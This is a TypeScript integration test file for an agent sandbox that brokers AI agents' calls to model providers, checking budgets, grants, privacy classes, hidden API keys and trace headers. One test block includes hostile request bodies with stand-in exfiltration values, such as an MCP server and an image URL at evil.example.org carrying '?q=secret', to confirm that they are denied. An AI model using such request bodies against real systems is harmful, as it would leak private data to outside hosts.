import { randomBytes } from "node:crypto";
import { writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import type { Condition, Grant } from "../../src/kernel/grant.ts";
import { INFER_TOOLS, type Provider } from "../../src/kernel/infer.ts";
import { MEMORY_TOOLS } from "../../src/kernel/memory.ts";
import type { RunRequest } from "../../src/protocol/requests.ts";
import { startScriptedModel, type ScriptedModel } from "../fakes/scripted-model.ts";
import { startScriptedOpenAi, type ScriptedOpenAi } from "../fakes/scripted-openai.ts";
import { plainProgram } from "./plain-program.ts";
import { asJson, REPO, startSubstrate, type Ran, type Substrate } from "./substrate.ts";

// One monitor, real agents that know nothing but an address, and models on loopback in the providers' own formats.
const VALUE = `sk-${randomBytes(20).toString("hex")}`;
const PROGRAM = join(REPO, "test", "fakes", "infer-agent.ts");
let aios: Substrate;
let claude: ScriptedModel;
let local: ScriptedOpenAi;
let keyed: Server;
let keyedPort: number;
let seen: IncomingMessage["headers"][] = [];
let plans = 0;

const provider = (change: Partial<Provider> & Pick<Provider, "provider" | "to">): Provider => ({
  format: "openai",
  path: "/v1",
  tier: "local",
  class: "private",
  models: [{ name: "small", output: 1000, price: null }],
  secret: null,
  ...change,
});

beforeAll(async () => {
  claude = await startScriptedModel([{ say: "hello from the model" }]);
  local = await startScriptedOpenAi("hello from here");
  keyed = createServer((request, response) => {
    seen.push(request.headers);
    request.resume();
    request.on("end", () => {
      const answer = { choices: [{ message: { content: `your key is ${String(request.headers.authorization)}` } }] };
      response.setHeader("content-type", "application/json");
      response.end(JSON.stringify({ ...answer, usage: { prompt_tokens: 3, completion_tokens: 4 } }));
    });
  });
  await new Promise<void>((resolve) => keyed.listen(0, "127.0.0.1", resolve));
  keyedPort = (keyed.address() as AddressInfo).port;
  aios = await startSubstrate();
  const price = { input: 3_000_000, output: 15_000_000 };
  await register(
    provider({
      provider: "claude",
      to: `http://localhost:${claude.port}`,
      format: "anthropic",
      path: "",
      models: [{ name: "big", output: 4000, price }],
    }),
  );
  await register(provider({ provider: "here", to: `http://localhost:${local.port}` }));
  await register(
    provider({
      provider: "open",
      to: `http://localhost:${local.port}`,
      class: "public",
      models: [{ name: "shown-to-all", output: 1000, price: null }],
    }),
  );
});
afterAll(async () => {
  claude.close();
  local.close();
  keyed.closeAllConnections();
  keyed.close();
  await aios.stop();
});

async function register(document: Provider): Promise<void> {
  await aios.sign("set-provider", asJson(document));
}

interface Wish {
  readonly models?: readonly string[];
  readonly where?: { readonly [field: string]: Condition };
  readonly budget?: Grant["limits"]["budget"];
  readonly workspace?: "read";
  readonly lease?: boolean;
  readonly extras?: { readonly [field: string]: Condition };
}

async function grantModels(agent: string, name: string, wish: Wish = {}): Promise<void> {
  const where = {
    provider: { equals: name },
    ...(wish.models === undefined ? {} : { model: { in: wish.models } }),
    ...wish.where,
  };
  await aios.grant({
    id: `${agent}-${name}`,
    agents: [agent],
    drivers: { infer: { source: { kind: "infer" }, tools: INFER_TOOLS } },
    allow: [
      ...["messages", "chat", "responses"].map((tool) => ({ what: `infer/${tool}`, where })),
      ...(wish.extras === undefined ? [] : [{ what: "infer/extras", where: { ...where, ...wish.extras } }]),
    ],
    lease: wish.lease ?? false,
    limits: { uses: wish.lease === true ? 10 : null, ...(wish.budget === undefined ? {} : { budget: wish.budget }) },
    workspace: wish.workspace ?? "none",
  });
}

interface Line {
  readonly step: number;
  readonly status?: number;
  readonly headers?: { readonly [name: string]: string };
  readonly body: string;
  readonly error?: string;
}

async function ask(
  agent: string,
  plan: readonly object[],
  request: Partial<RunRequest> = {},
): Promise<{ ran: Ran; lines: readonly Line[] }> {
  const path = join(aios.workspace, `ask-${plans++}.json`);
  writeFileSync(path, JSON.stringify(plan), { mode: 0o644 });
  const program = plainProgram(PROGRAM, aios.workspace);
  const ran = await aios.run({ agent, command: ["/aios/node", program, path], code: [program, path], ...request });
  const lines = ran.stdout.split("\n").flatMap((line): Line[] => (line.startsWith("{") ? [JSON.parse(line)] : []));
  return { ran, lines };
}

async function records(instance: string): Promise<readonly { kind: string; payload: unknown; record: object }[]> {
  const { entries } = await aios.client.request("log-show", { from: 0, limit: 1000, instance, kinds: [] });
  return entries.map(({ record, payload }) => ({ kind: record.kind, record, payload }));
}

const messages = (change: object = {}): object => ({
  path: "/v1/messages?beta=true",
  headers: { "anthropic-version": "2023-06-01" },
  body: { model: "big", max_tokens: 100, stream: true, messages: [{ role: "user", content: "hi" }], ...change },
});
const chat = (change: object = {}): object => ({
  path: "/v1/chat/completions",
  body: { model: "small", max_tokens: 100, messages: [{ role: "user", content: "hi" }], ...change },
});
const responses = (change: object = {}): object => ({
  path: "/v1/responses",
  body: { model: "small", max_output_tokens: 100, store: false, input: "hi", ...change },
});

describe("the context of an agent", () => {
  const words = (bytes: number) => [{ role: "user", content: "w".repeat(bytes) }];
  const budget = (agent: string, what: "context" | "working-set", most: { bytes: number; count: number }) =>
    aios.sign("set-memory-budget", { agent, what, ...most });

  test("that grows step by step is stopped at its budget, in the provider's own words, until an owner raises that", async () => {
    await grantModels("grower", "claude");
    await grantModels("grower", "here");
    await grantModels("twin", "claude");
    const steps = [200, 400, 600, 800].map((bytes) => messages({ messages: words(bytes) }));
    const plan = [...steps, chat({ messages: words(800) }), messages({ messages: words(200) })];
    const [asked, here] = [claude.asked.length, local.asked.length];
    await budget("grower", "context", { bytes: 1_000_000, count: 200 });
    const { ran, lines } = await ask("grower", plan);
    expect(lines.map(({ status }) => status)).toEqual([200, 200, 400, 400, 400, 200]);
    expect(JSON.parse(lines[2]?.body ?? "")).toEqual({
      type: "error",
      error: {
        type: "invalid_request_error",
        message: expect.stringMatching(
          /^prompt is too long: .*of at most 1000000 bytes or 200 tokens \(context\)\) \(context-full\)$/u,
        ),
      },
    });
    expect(JSON.parse(lines[4]?.body ?? "")).toMatchObject({
      error: { type: "invalid_request_error", code: "context_length_exceeded" },
    });
    expect(lines[2]?.headers).toMatchObject({ "x-should-retry": "false" });
    expect([claude.asked.length - asked, local.asked.length - here]).toEqual([3, 0]);
    const denied = (await records(ran.instance)).filter(({ kind }) => kind === "denied");
    expect(denied.map(({ record }) => (record as { code: string }).code)).toEqual(Array(3).fill("context-full"));
    // Who has another budget is not stopped, nor is this one once it was raised.
    expect((await ask("twin", steps)).lines.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
    await budget("grower", "context", { bytes: 1_000_000, count: 100_000 });
    expect((await ask("grower", steps)).lines.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
  });

  test("brings a model no more of memory than its working set, also when that shrank after it was loaded", async () => {
    await grantModels("rememberer", "claude");
    await aios.grant({
      id: "rememberer-memory",
      agents: ["rememberer"],
      drivers: { memory: { source: { kind: "memory" }, tools: MEMORY_TOOLS } },
      allow: ["memory/append", "memory/list"],
    });
    const tool = (name: string, args: object) => ({ method: "tools/call", params: { name, arguments: args } });
    const post = (bytes: number) => ({
      post: "/v1/messages",
      body: { model: "big", max_tokens: 100, messages: words(bytes) },
    });
    const text = "m".repeat(390);
    const plan = [
      tool("memory__append", { plane: "append-only", text }),
      tool("memory__list", { plane: "append-only" }),
      post(2000),
      { until: 1 },
      post(2000),
      post(100),
    ];
    const before = claude.asked.length;
    const running = aios.follow("rememberer", plan);
    await vi.waitFor(() => expect(claude.asked.length).toBe(before + 1), { timeout: 60_000, interval: 20 });
    await budget("rememberer", "working-set", { bytes: 300, count: 1000 });
    aios.release("rememberer");
    const { answers, instance } = await running;
    const told = answers.filter((_, at) => at >= 2).map(({ result }) => result as { status?: number; text?: string });
    expect(told.map(({ status }) => status)).toEqual([200, 400, 200]);
    expect(told[1]?.text).toMatch(/up to \d+ bytes or \d+ tokens of memory, of at most 300 bytes .*\(working-set\)/u);
    expect(claude.asked.length).toBe(before + 2);
    const denied = (await records(instance)).filter(({ kind }) => kind === "denied");
    expect(denied.map(({ record }) => (record as { code: string }).code)).toEqual(["context-full"]);
  });
});

describe("an agent that was granted models", () => {
  test("asks them in their own formats, streaming or not, and what was used is recorded", async () => {
    await grantModels("thinker", "claude");
    await grantModels("thinker", "here");
    const { ran, lines } = await ask("thinker", [
      { path: "/", method: "HEAD" },
      messages(),
      chat(),
      chat({ stream: true, stream_options: { include_usage: true } }),
      responses(),
      responses({ stream: true }),
      { path: "/v1/models" },
    ]);
    expect(lines.map(({ status }) => status)).toEqual([200, 200, 200, 200, 200, 200, 200]);
    expect(lines[1]?.body).toContain("hello from the model");
    expect(lines[1]?.body).toContain("event: message_stop");
    for (const line of lines.slice(2, 6)) expect(line.body).toContain("hello from here");
    expect(lines[3]?.body).toContain("data: [DONE]");
    expect(JSON.parse(lines[6]?.body ?? "")).toMatchObject({ data: [{ id: "small", owned_by: "here" }] });
    const outcomes = (await records(ran.instance)).filter(({ kind }) => kind === "outcome");
    expect(outcomes.map(({ record }) => (record as { what: string }).what)).toEqual([
      "infer/messages",
      "infer/chat",
      "infer/chat",
      "infer/responses",
      "infer/responses",
    ]);
    const spent = outcomes.map(({ payload }) => JSON.parse((payload as { result: string }).result).spent);
    // 10 tokens in and 1 out, at 3 and 15 for a million: 45 millionths.
    expect(spent[0]).toEqual({ input: 10, output: 1, cost: 45 });
    expect(spent.slice(1)).toEqual(Array.from({ length: 4 }, () => ({ input: 7, output: 5, cost: 0 })));
    const intent = (await records(ran.instance)).find(({ kind }) => kind === "intent");
    expect(intent?.record).toMatchObject({ what: "infer/messages", risk: "infer" });
    // What was said is no part of the action: its digest is.
    expect(JSON.stringify(intent?.payload)).not.toContain("hi\\");
    expect(JSON.stringify(intent?.payload)).toContain("sha256:");
  });

  test("asks the one of this machine first where its grants name several for a model", async () => {
    const models = [{ name: "common", output: 1000, price: null }];
    // The one elsewhere was registered first, and is nobody: whoever asked it would have no answer.
    await register(
      provider({ provider: "afar", to: "https://models.example", tier: "partner", class: "public", models }),
    );
    await register(provider({ provider: "near", to: `http://localhost:${local.port}`, models }));
    for (const name of ["afar", "near"]) await grantModels("chooser", name);
    const { ran, lines } = await ask("chooser", [chat({ model: "common" }), responses({ model: "common" })]);
    expect(lines.map(({ status }) => status)).toEqual([200, 200]);
    for (const { body } of lines) expect(body).toContain("hello from here");
    const intents = (await records(ran.instance)).filter(({ kind }) => kind === "intent");
    expect(intents.map(({ payload }) => JSON.stringify(payload).includes("afar"))).toEqual([false, false]);
    // The twin: whose grants name the other alone, asks that one, which may not see what this one does.
    await grantModels("sender", "afar", { workspace: "read" });
    const sent = await ask("sender", [chat({ model: "common" })], { workspace: aios.workspace });
    expect(sent.lines.map(({ status }) => status)).toEqual([403]);
    expect(sent.lines[0]?.body).toContain("privacy-class");
    const denied = (await records(sent.ran.instance)).filter(({ kind }) => kind === "denied");
    expect(denied.map(({ payload }) => JSON.stringify(payload).includes("afar"))).toEqual([true]);
  });

  test("finds them by the variables that clients read, without any proxy", async () => {
    const { stdout } = await aios.run({ agent: "thinker", command: ["/usr/bin/env"] });
    expect(stdout).toContain("ANTHROPIC_BASE_URL=http://127.0.0.1:3129\n");
    expect(stdout).toContain("OPENAI_BASE_URL=http://127.0.0.1:3129/v1\n");
    expect(stdout).not.toContain("HTTP_PROXY");
  });

  test("gets no other model, provider or format, and is told which grant it would need", async () => {
    const before = claude.asked.length + local.asked.length;
    const { ran, lines } = await ask("thinker", [
      messages({ model: "bigger" }),
      chat({ model: "big" }),
      chat({ model: "shown-to-all" }),
      { path: "/v1/embeddings", body: {} },
    ]);
    expect(lines.map(({ status }) => status)).toEqual([403, 403, 403, 404]);
    expect(JSON.parse(lines[0]?.body ?? "")).toMatchObject({ type: "error", error: { type: "permission_error" } });
    expect(JSON.parse(lines[1]?.body ?? "")).toMatchObject({ error: { code: "unknown-provider" } });
    expect((await records(ran.instance)).filter(({ kind }) => kind === "denied")).toHaveLength(3);
    expect(claude.asked.length + local.asked.length).toBe(before);
  });

  test("hands errors of providers on as they are, and they cost nothing", async () => {
    await grantModels("unlucky", "here", { budget: { input: 100, output: 150, cost: null } });
    local.fail({ status: 429, body: { error: { message: "slow down", type: "rate_limit_error" } } });
    local.fail({ status: 529, body: { error: { message: "overloaded", type: "overloaded_error" } } });
    const { ran, lines } = await ask("unlucky", [chat(), chat(), chat()]);
    expect(lines.map(({ status }) => status)).toEqual([429, 529, 200]);
    expect(lines[0]?.headers?.["retry-after"]).toBe("1");
    expect(JSON.parse(lines[1]?.body ?? "")).toMatchObject({ error: { type: "overloaded_error" } });
    const outcomes = (await records(ran.instance)).filter(({ kind }) => kind === "outcome");
    const spent = outcomes.map(({ payload }) => JSON.parse((payload as { result: string }).result).spent.output);
    expect(spent).toEqual([0, 0, 5]);
  });

  test("pays for the whole of a stream that breaks off, since nobody knows what it cost", async () => {
    await grantModels("cutter", "here", { budget: { input: null, output: 150, cost: null } });
    local.fail("cut");
    const { lines } = await ask("cutter", [chat({ stream: true }), chat(), chat({ max_tokens: 40 })]);
    expect(lines[0]?.error).toBe("aborted");
    expect(lines[1]?.status).toBe(403);
    expect(JSON.parse(lines[1]?.body ?? "")).toMatchObject({ error: { code: "limit-tokens" } });
    expect(lines[2]?.status).toBe(200);
  });

  test("runs out of its budget in the middle of the day, and of the size of a request before it", async () => {
    const where = { inputTokens: { max: 200 }, maxOutput: { max: 100 } };
    await grantModels("spender", "claude", { where, budget: { input: null, output: null, cost: 2100 } });
    // Each may cost some 1,600 at most, and costs 45.
    const { ran, lines } = await ask("spender", [
      ...Array.from({ length: 10 }, () => messages()),
      messages({ messages: [{ role: "user", content: "x".repeat(900) }] }),
      messages({ max_tokens: 101 }),
    ]);
    expect(lines.slice(0, 10).map(({ status }) => status)).toEqual(Array.from({ length: 10 }, () => 200));
    expect(lines.slice(10).map(({ status }) => status)).toEqual([403, 403]);
    expect(lines[10]?.body).toContain("no-grant");
    await aios.crash();
    await aios.restart();
    // 450 are spent; the log alone says so now.
    const after = await ask("spender", [messages(), messages(), messages()]);
    expect(after.lines.map(({ status }) => status)).toEqual([200, 200, 403]);
    expect(after.lines[2]?.body).toContain("limit-cost");
    expect((await records(ran.instance)).filter(({ kind }) => kind === "denied")).toHaveLength(2);
  });
});

describe("the class of data", () => {
  test("keeps an agent that sees a workspace from a provider that may see public data only", async () => {
    await grantModels("reader", "open", { workspace: "read" });
    await grantModels("stranger", "open");
    const body = { model: "shown-to-all" };
    const reader = await ask("reader", [chat(body)], { workspace: aios.workspace });
    expect(reader.lines[0]?.status).toBe(403);
    expect(reader.lines[0]?.body).toContain("privacy-class");
    const twin = await ask("stranger", [chat(body)]);
    expect(twin.lines[0]?.status).toBe(200);
  });
});

describe("the key of a provider", () => {
  test("is put in outside, and the agent sees neither it nor a placeholder of it", async () => {
    await aios.keepSecret("models", VALUE);
    const to = `http://localhost:${keyedPort}`;
    await aios.sign("bind-secret", {
      secret: "models",
      to,
      methods: ["POST"],
      path: "/v1",
      header: "authorization",
      scheme: "Bearer",
    });
    await register(
      provider({ provider: "keyed", to, secret: "models", models: [{ name: "dear", output: 100, price: null }] }),
    );
    await grantModels("keyless", "keyed");
    seen = [];
    const { ran, lines } = await ask("keyless", [
      { ...chat({ model: "dear" }), headers: { authorization: "Bearer my-own" } },
    ]);
    expect(seen[0]?.authorization).toBe(`Bearer ${VALUE}`);
    expect(lines[0]?.status).toBe(200);
    expect(lines[0]?.body).toContain("your key is Bearer ***");
    expect(ran.stdout).not.toContain(VALUE);
    const env = await aios.run({ agent: "keyless", command: ["/usr/bin/env"] });
    expect(env.stdout).not.toContain("aios-secret-");
    expect(JSON.stringify(await records(ran.instance))).not.toContain(VALUE);
  });

  test("is told our trace where an owner says so, and never an agent's own", async () => {
    const theirs = `00-${"a".repeat(32)}-${"b".repeat(16)}-01`;
    const asked = { ...chat({ model: "dear" }), headers: { traceparent: theirs, tracestate: "x=y" } };
    seen = [];
    await ask("keyless", [asked]);
    expect([seen[0]?.["traceparent"], seen[0]?.["tracestate"]]).toEqual([undefined, undefined]);
    // A receiver that is not there: nothing waits for it.
    const otlp = { to: "http://127.0.0.1:9", signals: ["traces"] };
    const siem = { file: null, to: null };
    const setting = { otlp, prometheus: null, siem, names: "hashed", content: "none", context: ["provider:keyed"] };
    await aios.sign("set-telemetry", setting);
    seen = [];
    await ask("keyless", [asked]);
    expect(seen[0]?.["traceparent"]).toMatch(/^00-[0-9a-f]{32}-[0-9a-f]{16}-01$/u);
    expect(seen[0]?.["traceparent"]).not.toBe(theirs);
    expect(seen[0]?.["tracestate"]).toBeUndefined();
  });
});

describe("a body that makes the provider reach out", () => {
  const image = (url: string): object => ({
    messages: [{ role: "user", content: [{ type: "image_url", image_url: { url } }] }],
  });
  test.each<[string, object, object]>([
    [
      "a search",
      messages({ tools: [{ type: "web_search_20250305", name: "web_search" }] }),
      messages({ tools: [{ name: "web_search", input_schema: {} }] }),
    ],
    [
      "servers of MCP",
      messages({ mcp_servers: [{ type: "url", url: "https://evil.example.org", name: "x" }] }),
      messages(),
    ],
    [
      "an address of an image",
      chat(image("https://evil.example.org/?q=secret")),
      chat(image("data:image/png;base64,aGk=")),
    ],
    ["what the provider keeps", responses({ previous_response_id: "resp_1" }), responses()],
    ["a conversation that is kept because nothing is said", responses({ store: undefined }), responses()],
  ])("by %s is denied, and its harmless twin is not", async (_, hostile, twin) => {
    const before = claude.asked.length + local.asked.length;
    const { ran, lines } = await ask("thinker", [hostile]);
    expect(lines[0]?.status).toBe(403);
    expect(lines[0]?.body).toContain("no-grant");
    expect(claude.asked.length + local.asked.length).toBe(before);
    const denied = (await records(ran.instance)).find(({ kind }) => kind === "denied");
    expect(denied?.record).toMatchObject({ what: "infer/extras" });
    expect((await ask("thinker", [twin])).lines[0]?.status).toBe(200);
  });

  test("is refused before it is asked for when it holds what nobody knows, and that is recorded", async () => {
    const { ran, lines } = await ask("thinker", [
      messages({ surprise: true }),
      { path: "/v1/messages", body: '{"model":"big","model":"other","max_tokens":1,"messages":[]}' },
    ]);
    expect(lines.map(({ status }) => status)).toEqual([400, 400]);
    expect(lines[0]?.body).toContain("surprise");
    const { entries } = await aios.client.request("log-show", {
      from: 0,
      limit: 1000,
      instance: null,
      kinds: ["refused"],
    });
    const own = entries.filter(({ record }) => record.kind === "refused" && record.peer === `face ${ran.instance}`);
    expect(own).toHaveLength(2);
  });

  test("is never held for a human, who could not be shown it, and runs under a lease", async () => {
    const search = messages({ tools: [{ type: "web_search_20250305", name: "web_search" }] });
    const extras = {
      endpoint: { in: ["messages"] },
      model: { in: ["big"] },
      inputTokens: { max: 1000 },
      maxOutput: { max: 1000 },
      features: { in: ["server-tools"] },
    };
    await grantModels("searcher", "claude", { extras });
    const held = await ask("searcher", [search]);
    expect(held.lines[0]?.status).toBe(403);
    expect(held.lines[0]?.body).toContain("too-large");
    await grantModels("leased", "claude", { extras, lease: true });
    const { ran, lines } = await ask("leased", [search, messages()]);
    expect(lines.map(({ status }) => status)).toEqual([200, 200]);
    const labelled = (await records(ran.instance)).find(({ kind }) => kind === "labelled");
    expect(labelled?.record).toMatchObject({ labels: ["untrusted"], because: "infer/extras" });
  });
});

test("an agent without a grant has no endpoint", async () => {
  const script = `fetch("http://127.0.0.1:3129/v1/models").then(() => console.log("there"), (e) => console.log(e.cause?.code))`;
  expect((await aios.run({ agent: "nobody", command: ["/aios/node", "-e", script] })).stdout).toBe("ECONNREFUSED\n");
});
